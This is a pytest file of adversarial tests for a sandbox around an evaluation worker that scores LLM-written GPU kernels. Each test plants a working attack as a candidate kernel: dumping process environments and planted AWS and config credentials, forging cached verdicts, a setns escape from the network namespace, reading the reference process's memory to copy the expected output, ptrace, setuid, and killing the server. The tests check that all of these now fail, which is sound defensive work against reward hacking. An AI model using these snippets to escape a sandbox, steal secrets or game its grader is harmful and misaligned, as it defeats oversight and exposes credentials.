"""Candidates that attack the harness (issue #37), one per hole.

A kernel written by an LLM rewarded for speed looks for holes. Each test
below plays one attack found in CPU test mode against the worker as it was
before the sandbox (worker/mkevolve_worker/sandbox.py): every one of them
succeeded then, and each test fails on that code. Now each must fail.

The server runs as the pool starts it, as pid 1 of its own PID namespace
(`unshare --pid --fork --mount-proc`, where this machine allows it), with a
fake HOME holding planted credentials, a config and a cached verdict, a
canary variable in its environment, and its own copy of the worker's
sources (so that an attack that succeeds cannot damage the repository). The
attacks run in CPU test mode, where the static checks are not enforced:
they test the runtime layers; the static gate has its own test.
"""

from __future__ import annotations

import json
import os
import secrets
import shutil
import socket
import subprocess
import textwrap
import threading
import time

import pytest

from conftest import WORKER_DIR, WorkerClient, problem, write_source

TOKEN = secrets.token_hex(8)
AWS_SECRET = f"aws_secret_access_key = AKIA-PLANTED-{TOKEN}"
CONFIG_SECRET = f'api_key = "sk-planted-config-{TOKEN}"'
CANARY = f"canary-{TOKEN}"
FORGED = '{"status": "correct", "forged": true}'



def _pidns_prefix() -> list[str]:
    """`unshare --pid --fork --kill-child --mount-proc`, as the pool runs each
    server (src/eval/server.cc), where it works here; else nothing."""
    cmd = ["unshare", "--pid", "--fork", "--kill-child", "--mount-proc"]
    try:
        ok = subprocess.run(cmd + ["true"], capture_output=True, timeout=30).returncode == 0
    except (OSError, subprocess.TimeoutExpired):
        ok = False
    return cmd if ok else []


@pytest.fixture(scope="module")
def world(tmp_path_factory, sandbox_share):
    root = tmp_path_factory.mktemp("adversarial")
    home = root / f"home-{TOKEN}"
    (home / ".aws").mkdir(parents=True)
    (home / ".aws" / "credentials").write_text(f"[default]\n{AWS_SECRET}\n")
    (home / ".config" / "mkevolve").mkdir(parents=True)
    (home / ".config" / "mkevolve" / "config.toml").write_text(CONFIG_SECRET + "\n")
    cached = home / ".cache" / "mkevolve" / "results" / "ab"
    cached.mkdir(parents=True)
    (cached / "abcd.json").write_text('{"status": "incorrect"}')
    run = root / "runs" / "r1"
    (run / "cache").mkdir(parents=True)
    worker = root / "worker"
    shutil.copytree(WORKER_DIR, worker, ignore=shutil.ignore_patterns("__pycache__"))
    cwd = root / "cwd"
    cwd.mkdir()
    env = {"HOME": str(home), "MKEVOLVE_TEST_CANARY": CANARY, "FOO_API_KEY": f"sk-planted-env-{TOKEN}",
           "PYTHONPATH": str(worker), "MKEVOLVE_TIMING_LOCK": str(root / "timing.lock"),
           "MKEVOLVE_TEST_SANDBOX_SHARE": str(sandbox_share)}
    w = {"root": root, "home": home, "cached": cached / "abcd.json", "run": run, "worker": worker, "cwd": cwd,
         "env": env, "prefix": _pidns_prefix()}
    w["server"] = WorkerClient(["--test-mode"], extra_env=env, cwd=str(cwd), prefix=w["prefix"])
    yield w
    w["server"].close()


def _eval(world, kernel: str, prob: str | None = None, **opts):
    o = dict(trials=1, alt_dist_trials=0, trials_dist="none")
    o.update(opts)
    return world["server"].eval(prob or problem("add"), kernel, timeout=180, **o)


def test_a_candidate_cannot_read_the_servers_environment_home_or_credentials(world, tmp_path):
    """The environment of every process it can see (/proc/1/environ: the
    server's, with its real HOME), then ~/.aws/credentials and mkevolve's
    config there, raised as an exception: the verdict's message, the debug
    prompt and the cache would carry them."""
    k = write_source(tmp_path / "loot.py", """
        import os
        import torch.nn as nn

        def loot():
            found, homes = [], {@HOME@}
            for p in ["1", "self"] + os.listdir("/proc"):
                try:
                    with open("/proc/" + p + "/environ", "rb") as f:
                        env = f.read().split(b"\\0")
                except OSError:
                    continue
                for kv in env:
                    k, _, v = kv.partition(b"=")
                    if k in (b"HOME", b"MKEVOLVE_TEST_CANARY"):
                        found.append(kv.decode())
                    if k == b"HOME":
                        homes.add(v.decode())
            for h in homes:
                for rel in (".aws/credentials", ".config/mkevolve/config.toml"):
                    try:
                        with open(os.path.join(h, rel)) as f:
                            found.append(f.read())
                    except OSError:
                        pass
            return found

        class ModelNew(nn.Module):
            def forward(self, a, b):
                raise RuntimeError("LOOT " + " | ".join(loot()))
        """.replace("@HOME@", repr(str(world["home"]))))
    r = _eval(world, k)
    text = json.dumps(r)
    assert r["kind"] == "runtime_error", r
    assert "LOOT" in r["message"], r["message"]
    assert CANARY not in text, r["message"]
    assert AWS_SECRET not in text and "AKIA-PLANTED" not in text, r["message"]
    assert CONFIG_SECRET not in text and "sk-planted-config" not in text, r["message"]
    assert f"home-{TOKEN}" not in r["message"].replace(repr(str(world["home"])), ""), r["message"]


def test_an_llm_written_decomposition_cannot_read_credentials_or_write_outside(world, tmp_path):
    """A decomposition is LLM-written code too: verify_decomposition runs it
    (top level and subproblems) in a candidate's sandbox, so reading the
    server's HOME and writing into a run directory fail there as well."""
    loot_target = world["run"] / "decomposition-was-here"
    d = tmp_path / "dec"
    (d / "subkernel_problems").mkdir(parents=True)
    (d / "decomposed_problem.py").write_text(textwrap.dedent("""
        import os
        import torch.nn as nn

        from subkernel_problems.add import Model as Add

        found = []
        for rel in (".aws/credentials", ".config/mkevolve/config.toml"):
            try:
                with open(os.path.join(@HOME@, rel)) as f:
                    found.append(f.read())
            except OSError as e:
                found.append(type(e).__name__)
        try:
            open(@TARGET@, "w").write("x")
        except OSError:
            pass


        class ModelNew(nn.Module):
            def __init__(self):
                super().__init__()
                self.add = Add()

            def forward(self, a, b):
                raise RuntimeError("LOOT " + " | ".join(found))
        """).replace("@HOME@", repr(str(world["home"]))).replace("@TARGET@", repr(str(loot_target))))
    shutil.copy(problem("add"), d / "subkernel_problems" / "add.py")
    r, _ = world["server"].request("verify_decomposition", problem=problem("add"),
                                   decomposed=str(d / "decomposed_problem.py"),
                                   subproblems_dir=str(d / "subkernel_problems"), options={"test_cpu": True},
                                   timeout=180)
    text = json.dumps(r)
    assert "LOOT" in text, text
    assert AWS_SECRET not in text and CONFIG_SECRET not in text, text
    assert not loot_target.exists()


WRITE_TARGETS = {
    # another run's directory (its verdict cache included)
    "run directory": lambda w: w["run"] / "cache" / "pwned.json",
    # the server's HOME: mkevolve's verdict cache, forged for a wrong kernel
    "cached verdict in HOME": lambda w: w["cached"],
    # the worker's own sources: code every later process would import
    "worker sources": lambda w: w["worker"] / "mkevolve_worker" / "pwned.py",
}


@pytest.mark.parametrize("where", sorted(WRITE_TARGETS))
def test_a_candidate_cannot_write_outside_its_box(world, tmp_path, where):
    target = WRITE_TARGETS[where](world)
    before = target.read_bytes() if target.exists() else None
    k = write_source(tmp_path / "vandal.py", """
        import os
        import torch.nn as nn

        class ModelNew(nn.Module):
            def forward(self, a, b):
                try:
                    os.makedirs(os.path.dirname(@TARGET@), exist_ok=True)
                    with open(@TARGET@, "w") as f:
                        f.write(@FORGED@)
                except OSError:
                    pass
                return a + b
        """.replace("@TARGET@", repr(str(target))).replace("@FORGED@", repr(FORGED)))
    r = _eval(world, k)
    assert r["status"] == "correct", r
    after = target.read_bytes() if target.exists() else None
    assert after == before, f"the candidate wrote {target}"


def test_dev_shm_is_private_and_gone_with_the_evaluation(world, tmp_path):
    name = f"mk-adversarial-{TOKEN}"
    k = write_source(tmp_path / "shm.py", """
        import os
        import torch.nn as nn

        class ModelNew(nn.Module):
            def forward(self, a, b):
                with open("/dev/shm/@NAME@", "w") as f:
                    f.write("left behind")
                return a + b
        """.replace("@NAME@", name))
    r = _eval(world, k)
    assert r["status"] == "correct", r
    assert not os.path.exists(os.path.join("/dev/shm", name)), "the file outlived the evaluation"


def test_a_candidate_cannot_rejoin_the_network_with_setns(world, tmp_path):
    """setns() on another process's /proc/<pid>/ns/net (the server's: pid 1)
    undid the network cut; the test listens on 127.0.0.1."""
    got: list = []
    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind(("127.0.0.1", 0))
    srv.listen(8)
    srv.settimeout(0.2)
    port = srv.getsockname()[1]
    stop = threading.Event()

    def listen():
        while not stop.is_set():
            try:
                conn, _ = srv.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(1)
                try:
                    got.append(conn.recv(100))
                except OSError:
                    got.append(b"(connected)")
    t = threading.Thread(target=listen, daemon=True)
    t.start()
    k = write_source(tmp_path / "setns.py", """
        import ctypes, os, socket
        import torch.nn as nn

        libc = ctypes.CDLL(None, use_errno=True)

        def escape():
            for p in ["1"] + os.listdir("/proc"):
                try:
                    fd = os.open("/proc/" + p + "/ns/net", os.O_RDONLY)
                except OSError:
                    continue
                try:
                    if libc.setns(fd, 0x40000000) != 0:
                        continue
                    try:
                        s = socket.create_connection(("127.0.0.1", @PORT@), timeout=0.5)
                        s.sendall(b"@TOKEN@")
                        s.close()
                        return
                    except OSError:
                        pass
                finally:
                    os.close(fd)

        class ModelNew(nn.Module):
            def forward(self, a, b):
                escape()
                return a + b
        """.replace("@PORT@", str(port)).replace("@TOKEN@", TOKEN))
    try:
        r = _eval(world, k)
        time.sleep(0.3)
    finally:
        stop.set()
        t.join()
        srv.close()
    assert r["status"] == "correct", r
    assert got == [], f"the candidate reached 127.0.0.1 outside its network namespace: {got}"


MARKER_PROBLEM = """
    import torch
    import torch.nn as nn

    class Model(nn.Module):
        def forward(self, x):
            return torch.full_like(x, @MARKER@)

    def get_inputs():
        return [torch.randn(128, 128)]

    def get_init_inputs():
        return []
    """

SCAN = """
    def marker_in(data):
        for off in range(0, len(data) - 256, 4096):
            word = data[off:off + 4]
            if word in (b"\\0\\0\\0\\0", b"\\x5a\\x5a\\x5a\\x5a") or data[off:off + 256] != word * 64:
                continue
            v = struct.unpack("<f", word)[0]
            if v == v and 1000.0 < abs(v) < 2000.0:
                return v
        return None

    def regions(pid):
        try:
            with open("/proc/%s/maps" % pid) as f:
                rows = [l.split() for l in f]
        except OSError:
            return []
        out = []
        for r in rows:
            lo, hi = (int(x, 16) for x in r[0].split("-"))
            named = len(r) > 5 and r[5] != "[heap]"
            if r[1].startswith("rw") and not named and hi - lo <= (256 << 20):
                out.append((lo, hi))
        return out

    def others():
        me = os.getpid()
        return [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != me]
    """


def test_a_candidate_cannot_copy_the_expected_output_from_the_references_memory(world, tmp_path):
    """The Sakana exploit: read the reference process's memory through
    /proc/<pid>/mem, find its expected output and return it. With it, every
    trial passed with max error 0."""
    marker = 1000.0 + (int(TOKEN[:4], 16) % 997) + 0.25
    prob = write_source(tmp_path / "marker.py", MARKER_PROBLEM.replace("@MARKER@", repr(marker)))
    k = write_source(tmp_path / "memthief.py", textwrap.dedent("""
        import os, struct, time
        import torch
        import torch.nn as nn
        """) + textwrap.dedent(SCAN) + textwrap.dedent("""
        def steal():
            t_end = time.monotonic() + 20
            while time.monotonic() < t_end:
                for pid in others():
                    try:
                        mem = open("/proc/%d/mem" % pid, "rb", buffering=0)
                    except OSError:
                        continue
                    with mem:
                        for lo, hi in regions(pid):
                            try:
                                mem.seek(lo)
                                v = marker_in(mem.read(hi - lo))
                            except (OSError, ValueError, OverflowError):
                                continue
                            if v is not None:
                                return v
                time.sleep(0.2)
            return None

        class ModelNew(nn.Module):
            def forward(self, x):
                v = steal()
                return torch.full_like(x, v) if v is not None else torch.zeros_like(x)
        """))
    r = _eval(world, k, prob=prob, timeout_s=120)
    assert r["status"] == "incorrect" and r["kind"] == "mismatch", r


def test_a_candidate_cannot_ptrace_or_read_another_process_with_process_vm_readv(world, tmp_path):
    """ptrace and process_vm_readv, on every other process it can see and on
    a child of its own (which the seccomp filter covers even where no other
    process is in sight): none may succeed."""
    k = write_source(tmp_path / "ptracer.py", """
        import ctypes, os, time
        import torch.nn as nn

        libc = ctypes.CDLL(None, use_errno=True)
        PTRACE_ATTACH, PTRACE_DETACH, WALL = 16, 17, 0x40000000

        def attached(pid):
            # Attaches, waits for the stop and lets go again (a tracee left
            # stopped would hang whoever it is).
            if libc.ptrace(PTRACE_ATTACH, pid, None, None) != 0:
                return False
            libc.waitpid(pid, None, WALL)
            libc.ptrace(PTRACE_DETACH, pid, None, None)
            return True

        class IoVec(ctypes.Structure):
            _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]

        def vm_read(pid, addr, n):
            buf = ctypes.create_string_buffer(n)
            local = IoVec(ctypes.addressof(buf), n)
            remote = IoVec(addr, n)
            got = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
            return buf.raw[:got] if got > 0 else None

        def attack():
            breaches = []
            secret = ctypes.create_string_buffer(b"CHILD-SECRET-@TOKEN@")
            child = os.fork()
            if child == 0:
                time.sleep(60)
                os._exit(0)
            try:
                time.sleep(0.1)
                if vm_read(child, ctypes.addressof(secret), 16):
                    breaches.append("process_vm_readv(own child)")
                if attached(child):
                    breaches.append("ptrace(own child)")
            finally:
                os.kill(child, 9)
                os.waitpid(child, 0)
            me = os.getpid()
            for p in os.listdir("/proc"):
                if not p.isdigit() or int(p) in (me, child):
                    continue
                pid = int(p)
                if attached(pid):
                    breaches.append("ptrace(%d)" % pid)
                try:
                    with open("/proc/%d/maps" % pid) as f:
                        lo = int(f.readline().split("-")[0], 16)
                except (OSError, ValueError):
                    continue
                if vm_read(pid, lo, 8):
                    breaches.append("process_vm_readv(%d)" % pid)
            return breaches

        class ModelNew(nn.Module):
            def forward(self, a, b):
                found = attack()
                if found:
                    raise RuntimeError("BREACH " + ", ".join(found))
                return a + b
        """.replace("@TOKEN@", TOKEN))
    r = _eval(world, k)
    assert "BREACH" not in r["message"], r["message"]
    assert r["status"] == "correct", r


def test_a_candidate_cannot_regain_root(world, tmp_path):
    """setuid(0) and friends, then what /proc/self/status says: no
    capabilities (and no root uid where it had a uid of its own)."""
    k = write_source(tmp_path / "rooter.py", """
        import os
        import torch.nn as nn

        def attempt():
            for f, args in ((os.setuid, (0,)), (os.setresuid, (0, 0, 0)), (os.setgid, (0,))):
                try:
                    f(*args)
                except OSError:
                    pass
            st = {}
            with open("/proc/self/status") as fh:
                for line in fh:
                    k, _, v = line.partition(":")
                    st[k] = v.strip()
            return st

        class ModelNew(nn.Module):
            def forward(self, a, b):
                st = attempt()
                if int(st["CapEff"], 16) or int(st["CapPrm"], 16):
                    raise RuntimeError("BREACH capabilities " + st["CapEff"] + " uid " + st["Uid"])
                return a + b
        """)
    r = _eval(world, k)
    assert "BREACH" not in r["message"], r["message"]
    assert r["status"] == "correct", r
    sbx = r["checks"]["isolation"]["sandbox"]
    assert sbx["capabilities"] == "none" and sbx["no_new_privs"] is True, sbx
    if str(sbx["user"]).startswith("own uid"):
        assert sbx["uid"] != 0


def test_the_static_gate_refuses_the_harness_modules(world, tmp_path):
    """`mkevolve check` passed a kernel that imports mkevolve_worker.tensorio
    and mkevolve_worker.isolation to read files and call setns."""
    k = write_source(tmp_path / "harness.py", """
        import torch
        import torch.nn as nn
        import triton
        import triton.language as tl
        from mkevolve_worker import isolation, tensorio

        @triton.jit
        def copy_kernel(x_ptr, y_ptr, n, BLOCK: tl.constexpr):
            offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
            tl.store(y_ptr + offs, tl.load(x_ptr + offs, mask=offs < n), mask=offs < n)

        class ModelNew(nn.Module):
            def forward(self, x):
                creds = tensorio._read_untrusted("/root/.aws/credentials", 1 << 20)
                libc = isolation.libc()
                libc.setns(libc.open(b"/proc/1/ns/net", 0), 0x40000000)
                y = torch.empty_like(x)
                copy_kernel[(triton.cdiv(x.numel(), 1024),)](x, y, x.numel(), BLOCK=1024)
                return y
        """)
    msg, _ = world["server"].request("check", kernel=k)
    assert msg["type"] == "result", msg
    rules = {v["rule"] for v in msg["violations"]}
    assert not msg["clean"] and "harness-import" in rules, msg


def test_a_candidate_sees_only_its_own_processes_and_cannot_kill_the_server(world, tmp_path, sandbox_share):
    """It signals every process it can see (the server, the reference, the
    idle spares): the server must go on answering, and the evaluation must
    still get its verdict. A server of its own: the attack, where it
    succeeds, leaves no server behind."""
    server = WorkerClient(["--test-mode"], extra_env=world["env"], cwd=str(world["cwd"]), prefix=world["prefix"])
    try:
        k = write_source(tmp_path / "killer.py", """
            import os, signal
            import torch.nn as nn

            class ModelNew(nn.Module):
                def forward(self, a, b):
                    me = os.getpid()
                    for p in os.listdir("/proc"):
                        if p.isdigit() and int(p) != me:
                            try:
                                os.kill(int(p), signal.SIGKILL)
                            except OSError:
                                pass
                    try:
                        os.kill(os.getppid(), signal.SIGKILL)
                    except OSError:
                        pass
                    return a + b
            """)
        r = server.eval(problem("add"), k, timeout=120, trials=1, alt_dist_trials=0, trials_dist="none")
        assert r["status"] == "correct", r
        assert server.request("ping")[0]["ok"] is True
        assert server.eval(problem("add"), k, timeout=120)["status"] == "correct"
    finally:
        server.close()


def test_the_verdict_says_which_protections_were_in_force(world, tmp_path):
    """checks.isolation.sandbox: what the candidate's own process found in
    force before any candidate code ran (here, as root with namespaces:
    everything)."""
    k = write_source(tmp_path / "ok.py", """
        import torch.nn as nn

        class ModelNew(nn.Module):
            def forward(self, a, b):
                return a + b
        """)
    r = _eval(world, k)
    assert r["status"] == "correct", r
    sbx = r["checks"]["isolation"]["sandbox"]
    if os.geteuid() != 0:
        pytest.skip("the full sandbox needs root (a user namespace gives uid 0 without capabilities)")
    assert sbx["user"].startswith("own uid"), sbx
    assert sbx["capabilities"] == "none" and sbx["no_new_privs"] is True, sbx
    assert sbx["seccomp_mode"] == "filter" and sbx["seccomp"].startswith("libseccomp"), sbx
    assert sbx["pid_namespace"] is True and sbx["proc"] == "own PID namespace", sbx
    assert sbx["filesystem"].startswith("pivot_root"), sbx
    assert sbx["network"] == "none" and sbx["dev_shm"] == "private tmpfs", sbx
    assert "failed" not in sbx, sbx
